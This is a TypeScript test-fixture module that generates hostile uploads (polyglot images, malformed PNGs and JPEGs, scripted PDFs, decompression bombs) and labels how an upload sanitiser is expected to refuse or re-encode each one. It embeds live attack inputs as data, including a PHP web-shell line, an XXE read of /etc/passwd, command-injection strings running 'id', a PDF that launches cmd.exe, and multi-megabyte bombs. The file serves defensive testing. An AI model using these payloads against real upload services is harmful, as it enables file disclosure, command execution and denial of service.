import { crc32, deflateRawSync, deflateSync } from 'node:zlib';
import sharp from 'sharp';

/** A file that somebody may send in bad faith: it is refused, or nothing of it but its picture is kept. */
export interface HostileFile {
  name: string;
  body: () => Promise<Buffer> | Buffer;
  /** `drawn`: the picture is kept, encoded anew; else how it is refused. */
  ends: 'drawn' | 'file.type' | 'file.broken' | 'file.pixels' | 'file.active';
}

/** Stands in whatever a file hides, so that it can be looked for in what is kept. */
export const PLANTED = 'planted-by-a-stranger';
const HTML = `<html><script>alert('${PLANTED}')</script></html>`;
const canvas = (width: number, height: number) =>
  sharp({ create: { width, height, channels: 3, background: '#99aacc' } });
const jpeg = () => canvas(600, 400).jpeg().toBuffer();
const png = () => canvas(600, 400).png().toBuffer();
const webp = () => canvas(600, 400).webp().toBuffer();
const bytes = (text: string) => Buffer.from(text, 'latin1');
const u16 = (n: number) => Buffer.from([n >> 8, n & 255]);
const u32 = (n: number) => Buffer.from([n >>> 24, (n >>> 16) & 255, (n >>> 8) & 255, n & 255]);

const chunk = (type: string, data: Buffer, sum?: number) =>
  Buffer.concat([u32(data.length), bytes(type), data, u32(sum ?? crc32(Buffer.concat([bytes(type), data])))]);
const PNG_SIGN = bytes('\u0089PNG\r\n\u001a\n');
const header = (width: number, height: number, depth = 8, colour = 0) =>
  chunk('IHDR', Buffer.concat([u32(width), u32(height), Buffer.from([depth, colour, 0, 0, 0])]));
const pngOf = (...chunks: Buffer[]) => Buffer.concat([PNG_SIGN, ...chunks, chunk('IEND', Buffer.alloc(0))]);
/** Puts chunks behind the header of a sound PNG. */
const pngWith = async (...chunks: Buffer[]) => {
  const whole = await png();
  return Buffer.concat([whole.subarray(0, 33), ...chunks, whole.subarray(33)]);
};
const segment = (marker: number, data: Buffer) => Buffer.concat([Buffer.from([0xff, marker]), u16(data.length + 2), data]); // prettier-ignore
/** Puts a segment behind the beginning of a sound JPEG. */
const jpegWith = async (...segments: Buffer[]) => {
  const whole = await jpeg();
  return Buffer.concat([whole.subarray(0, 2), ...segments, whole.subarray(2)]);
};
/** Lets the frame of a sound JPEG say another size (pixels). */
const jpegSaying = async (width: number, height: number) => {
  const whole = Buffer.from(await jpeg());
  const frame = whole.findIndex((byte, i) => byte === 0xff && (whole[i + 1] === 0xc0 || whole[i + 1] === 0xc2));
  u16(height).copy(whole, frame + 5);
  u16(width).copy(whole, frame + 7);
  return whole;
};
const archive = (name: string, text: string) => {
  const packed = deflateRawSync(bytes(text));
  const local = Buffer.alloc(30);
  local.writeUInt32LE(0x04034b50, 0);
  local.writeUInt16LE(8, 8);
  local.writeUInt32LE(crc32(bytes(text)), 14);
  local.writeUInt32LE(packed.length, 18);
  local.writeUInt32LE(text.length, 22);
  local.writeUInt16LE(name.length, 26);
  return Buffer.concat([local, bytes(name), packed]);
};

export const CATALOG = '1 0 obj <</Type /Catalog /Pages 2 0 R>> endobj';
const SCRIPT = `<</S /JavaScript /JS (app.alert('${PLANTED}'))>>`;
export const pdf = (objects: string, end = '%%EOF\n') => bytes(`%PDF-1.7\n${objects}\ntrailer <</Root 1 0 R>>\n${end}`);
/** A PDF whose catalogue stands beside this object. */
const pdfWith = (object: string) => pdf(`${CATALOG}\n4 0 obj ${object} endobj`);
/** A PDF with these objects in a compressed object stream. */
export const packedPdf = (hidden: string, dictionary = '/Filter /FlateDecode') => {
  const packed = deflateSync(bytes(hidden)).toString('latin1');
  return pdf(`${CATALOG}\n3 0 obj <</Type /ObjStm /N 1 /First 4 ${dictionary} /Length ${packed.length}>> stream\n${packed}\nendstream endobj`); // prettier-ignore
};

const refused = (ends: HostileFile['ends'], files: [string, () => Promise<Buffer> | Buffer][]): HostileFile[] =>
  files.map(([name, body]) => ({ name, body, ends }));

/** Every file has its own way in: another decoder, a second format within the first, a bomb, something that runs. */
export const HOSTILE_FILES: readonly HostileFile[] = [
  ...refused('file.type', [
    ['nothing', () => Buffer.alloc(0)],
    ['one byte', () => Buffer.from([0xff])],
    ['a page', () => bytes(HTML)],
    ['a page in UTF-16', () => Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(HTML, 'utf16le')])],
    ['a page behind a comment', () => bytes(`<!-- \u00ff\u00d8\u00ff -->${HTML}`)],
    ['a script as SVG', () => bytes(`<svg xmlns="http://www.w3.org/2000/svg">${HTML}</svg>`)],
    ['an SVG with outer entities', () => bytes('<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg>&x;</svg>')], // prettier-ignore
    ['a packed SVG', () => Buffer.concat([Buffer.from([0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 3]), deflateRawSync(bytes('<svg/>'))])], // prettier-ignore
    ['entities of entities', () => bytes('<!DOCTYPE a [<!ENTITY b "xxxxxxxx"><!ENTITY c "&b;&b;&b;&b;">]><a>&c;</a>')],
    ['a GIF that is a script, too', () => bytes(`GIF89a/*\u0000\u0000*/=1;alert('${PLANTED}')`)],
    ['a GIF of the older kind', () => bytes('GIF87a\u0001\u0000\u0001\u0000\u0000\u0000\u0000')],
    ['a bitmap', () => bytes('BM\u0046\u0000\u0000\u0000\u0000\u0000\u0000\u0000\u0036\u0000\u0000\u0000')],
    ['a TIFF', () => bytes('II*\u0000\u0008\u0000\u0000\u0000')],
    ['a TIFF of the other end', () => bytes('MM\u0000*\u0000\u0000\u0000\u0008')],
    ['a HEIC', () => bytes('\u0000\u0000\u0000\u0018ftypheic\u0000\u0000\u0000\u0000')],
    ['an AVIF', () => canvas(8, 8).avif().toBuffer()],
    ['a picture of Photoshop', () => bytes('8BPS\u0000\u0001')],
    ['PostScript', () => bytes('%!PS-Adobe-3.0 EPSF-3.0\n(%pipe%id) (w) file')],
    [
      'commands for a drawing program',
      () => bytes('push graphic-context\nfill \'url(https://example.com/x.jpg"|id")\''),
    ],
    ['an icon', () => bytes('\u0000\u0000\u0001\u0000\u0001\u0000')],
    ['an archive', () => archive('x.html', HTML)],
    ['a book of macros', () => archive('xl/vbaProject.bin', PLANTED)],
    ['an archive that unpacks to 50 MB', () => archive('x', ' '.repeat(50_000_000))],
    ['a program of Windows', () => bytes('MZ\u0090\u0000\u0003')],
    ['a program of Linux', () => bytes('\u007fELF\u0002\u0001\u0001')],
    ['a class of Java', () => Buffer.from([0xca, 0xfe, 0xba, 0xbe])],
    ['a module of WebAssembly', () => bytes('\u0000asm\u0001\u0000\u0000\u0000')],
    ['a script of a shell', () => bytes('#!/bin/sh\nid')],
    ['a script of PHP', () => bytes('<?php system($_GET[0]); ?>')],
    ['a film', () => bytes('\u0000\u0000\u0000\u0018ftypmp42\u0000\u0000\u0000\u0000')],
    ['a sound within RIFF', () => bytes('RIFF\u0024\u0000\u0000\u0000WAVEfmt ')],
    ['a PDF behind a page', () => Buffer.concat([bytes(HTML), pdf(CATALOG)])],
    ['a picture behind a blank', async () => Buffer.concat([bytes(' '), await jpeg()])],
  ]),
  ...refused('file.broken', [
    ['the beginning of a JPEG and a page', () => Buffer.concat([Buffer.from([0xff, 0xd8, 0xff]), bytes(HTML)])],
    ['the beginning of a PNG and a page', () => Buffer.concat([PNG_SIGN, bytes(HTML)])],
    ['the beginning of a WebP and a page', () => bytes(`RIFF\u0024\u0000\u0000\u0000WEBP${HTML}`)],
    ['half a JPEG', async () => { const whole = await canvas(2_000, 1_500).jpeg().toBuffer(); return whole.subarray(0, whole.length / 2); }], // prettier-ignore
    ['half a PNG', async () => (await canvas(900, 600).png({ compressionLevel: 0 }).toBuffer()).subarray(0, 700_000)],
    ['half a WebP', async () => { const whole = await webp(); return whole.subarray(0, whole.length / 2); }], // prettier-ignore
    ['a PNG whose header has a wrong sum', () => pngOf(chunk('IHDR', Buffer.concat([u32(9), u32(9), Buffer.from([8, 0, 0, 0, 0])]), 1))], // prettier-ignore
    ['a PNG without a side', () => pngOf(header(0, 9), chunk('IDAT', deflateSync(Buffer.alloc(99))))],
    ['a PNG without pixels', () => pngOf(header(90, 90))],
    [
      'a PNG of a depth that does not exist',
      () => pngOf(header(9, 9, 7), chunk('IDAT', deflateSync(Buffer.alloc(99)))),
    ],
    ['a PNG whose pixels are no deflate', () => pngOf(header(90, 90), chunk('IDAT', bytes(HTML)))],
    ['half a PDF', () => pdf(CATALOG, '')],
    ['a PDF with a page behind it', () => Buffer.concat([pdf(CATALOG), bytes(HTML)])],
    ['a PDF with an archive behind it', () => Buffer.concat([pdf(CATALOG), archive('x.html', HTML.repeat(200))])],
  ]),
  ...refused('file.pixels', [
    ['10,000 by 10,000 pixels', () => canvas(10_000, 10_000).png().toBuffer()],
    ['10,000 by 10,000 pixels as JPEG', () => canvas(10_000, 10_000).jpeg().toBuffer()],
    ['a PNG that says 50,000 by 50,000', () => pngOf(header(50_000, 50_000), chunk('IDAT', deflateSync(Buffer.alloc(1_000))))], // prettier-ignore
    ['a JPEG that says 65,500 by 65,500', () => jpegSaying(65_500, 65_500)],
    ['a WebP of 16,000 by 4,000', () => canvas(16_000, 4_000).webp({ effort: 0 }).toBuffer()],
    ['a line of 30,000 pixels', () => canvas(30_000, 1).png().toBuffer()],
  ]),
  ...refused('file.active', [
    ['a PDF with a script', () => pdfWith(SCRIPT)],
    ['a PDF with a script at its opening', () => pdf(`1 0 obj <</Type /Catalog /OpenAction ${SCRIPT}>> endobj`)],
    ['a PDF with a script without blanks', () => pdfWith('<</S/JavaScript/JS(1)>>')],
    ['a PDF with a script in other letters', () => pdfWith('<</S /J#61v#61Script /JS (1)>>')],
    [
      'a PDF with a script added later',
      () => Buffer.concat([pdf(CATALOG), bytes(`9 0 obj ${SCRIPT} endobj\n%%EOF\n`)]),
    ],
    ['a PDF with a packed script', () => packedPdf(SCRIPT)],
    ['a PDF with a script packed otherwise', () => packedPdf(SCRIPT, '/Filter [/ASCIIHexDecode /FlateDecode]')],
    ['a PDF whose packing is said elsewhere', () => packedPdf(SCRIPT, '/Filter 9 0 R')],
    ['a PDF that unpacks to 200 MB', () => packedPdf(' '.repeat(200_000_000))],
    ['a PDF of twenty streams that unpack to 30 MB each', () => { const one = deflateSync(Buffer.alloc(30_000_000)).toString('latin1'); return pdf(`${CATALOG}\n3 0 obj <</Type /ObjStm>> endobj\n${`stream\n${one}\nendstream\n`.repeat(20)}`); }], // prettier-ignore
    ['a PDF of three streams that unpack to 15 MB of letters as numbers each', () => { const one = deflateSync(bytes('#61'.repeat(5_000_000))).toString('latin1'); return pdf(`${CATALOG}\n3 0 obj <</Type /ObjStm>> endobj\n${`stream\n${one}\nendstream\n`.repeat(3)}4 0 obj ${SCRIPT} endobj`); }], // prettier-ignore
    [
      'a PDF of 9 MB of letters as numbers',
      () => pdfWith(`<</X /${'#61'.repeat(3_000_000)}>> endobj\n5 0 obj ${SCRIPT}`),
    ],
    ['a PDF of 200,000 streams', () => { const one = deflateSync(bytes('x')).toString('latin1'); return pdf(`${CATALOG}\n3 0 obj <</Type /ObjStm>> endobj\n${`stream\n${one}\nendstream\n`.repeat(200_000)}`); }], // prettier-ignore
    [
      'a PDF with an attachment',
      () => pdfWith('<</Type /Filespec /EF <</F 5 0 R>>>> endobj\n5 0 obj <</Type /EmbeddedFile>>'),
    ],
    ['a PDF with a tree of attachments', () => pdfWith('<</Names <</EmbeddedFiles 5 0 R>>>>')],
    ['a PDF that starts a program', () => pdfWith('<</S /Launch /F (cmd.exe)>>')],
    ['a PDF that sends what is in it', () => pdfWith('<</S /SubmitForm /F (https://example.com)>>')],
    ['a PDF that fills itself from elsewhere', () => pdfWith('<</S /ImportData /F (x.fdf)>>')],
    ['a PDF that goes into another', () => pdfWith('<</S /GoToE /T 5 0 R>>')],
    ['a PDF with a form of XML', () => pdfWith('<</AcroForm <</XFA 5 0 R>>>>')],
    ['a PDF with a film', () => pdfWith('<</Subtype /RichMedia>>')],
    ['a PDF with a sound', () => pdfWith('<</S /Sound /Sound 5 0 R>>')],
    ['a PDF with a password', () => pdfWith('<</Filter /Standard>> endobj\n5 0 obj <</Encrypt 4 0 R>>')],
  ]),
  ...refused('drawn', [
    ['a JPEG with a page behind it', async () => Buffer.concat([await jpeg(), bytes(HTML)])],
    ['a JPEG with an archive behind it', async () => Buffer.concat([await jpeg(), archive('x.html', HTML)])],
    ['a JPEG with a PDF behind it', async () => Buffer.concat([await jpeg(), pdfWith(SCRIPT)])],
    ['a JPEG with a script as its comment', () => jpegWith(segment(0xfe, bytes(`<?php system('${PLANTED}') ?>`)))],
    ['a JPEG that is a script, too', () => jpegWith(segment(0xe0, bytes(`JFIF\u0000/*${' '.repeat(200)}*/=1;alert('${PLANTED}')`)))], // prettier-ignore
    ['a JPEG with a script as its description', () => canvas(600, 400).withExif({ IFD0: { ImageDescription: HTML, Copyright: PLANTED } }).jpeg().toBuffer()], // prettier-ignore
    ['a JPEG that tells where it was taken', () => canvas(600, 400).withExif({ IFD3: { GPSLatitude: '13/1 45/1 0/1', GPSAreaInformation: PLANTED } }).jpeg().toBuffer()], // prettier-ignore
    ['a JPEG with XMP', () => jpegWith(segment(0xe1, bytes(`http://ns.adobe.com/xap/1.0/\u0000${HTML}`)))],
    ['a JPEG of four colours', () => canvas(600, 400).toColourspace('cmyk').jpeg().toBuffer()],
    ['a PNG with a page behind it', async () => Buffer.concat([await png(), bytes(HTML)])],
    ['a PNG with a script as its text', () => pngWith(chunk('tEXt', bytes(`Comment\u0000${HTML}`)))],
    ['a PNG whose text unpacks to 50 MB', () => pngWith(chunk('zTXt', Buffer.concat([bytes('x\u0000\u0000'), deflateSync(Buffer.alloc(50_000_000))])))], // prettier-ignore
    ['a PNG whose colours unpack to 50 MB', () => pngWith(chunk('iCCP', Buffer.concat([bytes('x\u0000\u0000'), deflateSync(Buffer.alloc(50_000_000))])))], // prettier-ignore
    ['a PNG whose pixels unpack to 50 MB', () => pngOf(header(90, 90), chunk('IDAT', deflateSync(Buffer.alloc(50_000_000))))], // prettier-ignore
    ['a PNG of 16 bits', () => canvas(600, 400).toColourspace('rgb16').png().toBuffer()],
    ['a WebP with a page behind it', async () => Buffer.concat([await webp(), bytes(HTML)])],
    ['a telephone’s picture of 48 megapixels', () => canvas(8_000, 6_000).jpeg().toBuffer()],
  ]),
];
